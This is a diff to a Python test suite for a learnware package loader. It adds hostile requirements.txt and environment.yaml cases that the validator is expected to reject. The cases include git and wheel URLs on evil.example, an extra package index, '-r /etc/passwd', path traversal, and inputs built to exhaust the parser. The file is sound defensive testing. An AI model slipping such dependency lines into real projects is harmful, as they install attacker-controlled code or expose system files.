@@ -36,7 +36,7 @@ class Case:
     Attributes
     ----------
     category : str
-        archive, manifest, stat_spec, semantic, user_data.
+        archive, manifest, requirements, stat_spec, semantic, user_data.
     entry : str
         ``open_learnware`` (build returns a zip path), ``load_spec_file`` (a JSON path), ``parse_untrusted`` (text
         or an object), ``query`` (a query dict), ``load_table`` (a data path, plus ``kwargs``).
@@ -614,5 +614,43 @@ USER = [
          ("nope.csv",)),
 ]
 
+# ------------------------------------------------------------------------------------------------ requirements
+def _reqs(text: str | bytes, name: str = "requirements.txt") -> Build:
+    """A valid package whose requirements file (or conda environment) is hostile."""
+    return lambda d: package(d / "lw.zip", replace={name: text})
+
+
+_REQ = "requirements_disallowed"
+REQUIREMENTS = [
+    Case("editable_vcs", "requirements", "open_learnware", _reqs("numpy\n-e git+https://evil.example/x.git#egg=x\n"),
+         InvalidPackageError, _REQ, ("requirements.txt", "pip options")),
+    Case("extra_index_url", "requirements", "open_learnware",
+         _reqs("--extra-index-url https://evil.example/simple\nnumpy\n"), InvalidPackageError, _REQ,
+         ("pip options",)),
+    Case("nested_requirements_file", "requirements", "open_learnware", _reqs("-r /etc/passwd\n"),
+         InvalidPackageError, _REQ, ("pip options",)),
+    Case("direct_url_reference", "requirements", "open_learnware",
+         _reqs("evil @ https://evil.example/evil-1.0-py3-none-any.whl\n"), InvalidPackageError, _REQ, ("URLs",)),
+    Case("local_path", "requirements", "open_learnware", _reqs("../../../etc/secret.tar.gz\n"),
+         InvalidPackageError, _REQ, ("local paths",)),
+    Case("line_too_long", "requirements", "open_learnware", _reqs("numpy" + "=" * 2000 + "1\n"),
+         InvalidPackageError, _REQ, ("longer than",)),
+    Case("file_too_large", "requirements", "open_learnware", _reqs("# pad\n" * 60_000 + "numpy\n"),
+         InvalidPackageError, _REQ, ("requirements.txt", "limit")),
+    Case("not_utf8", "requirements", "open_learnware", _reqs(b"numpy\n\xff\xfe\xfa\n" * 1 + b"\xc3\x28\n"),
+         InvalidPackageError, _REQ, ("UTF-8",)),
+    Case("unparsable_line", "requirements", "open_learnware", _reqs("numpy[=1.0\n"), InvalidPackageError, _REQ,
+         ("not a valid requirement",)),
+    Case("conda_not_a_mapping", "requirements", "open_learnware", _reqs("- numpy\n- scipy\n", "environment.yaml"),
+         InvalidPackageError, _REQ, ("environment.yaml", "dependencies")),
+    Case("conda_pip_url", "requirements", "open_learnware",
+         _reqs("dependencies:\n  - python=3.11\n  - pip:\n    - git+https://evil.example/x.git\n",
+               "environment.yaml"), InvalidPackageError, _REQ, ("environment.yaml", "URLs")),
+    Case("conda_deep_yaml", "requirements", "open_learnware",
+         _reqs("dependencies: " + "[" * 5000 + "]" * 5000 + "\n", "environment.yaml"), InvalidPackageError, _REQ,
+         ("environment.yaml",)),
+]
+
+
 #: Every case, in category order.
-CASES: list[Case] = ARCHIVE + MANIFEST_CASES + STAT + SEMANTIC + USER
+CASES: list[Case] = ARCHIVE + MANIFEST_CASES + REQUIREMENTS + STAT + SEMANTIC + USER
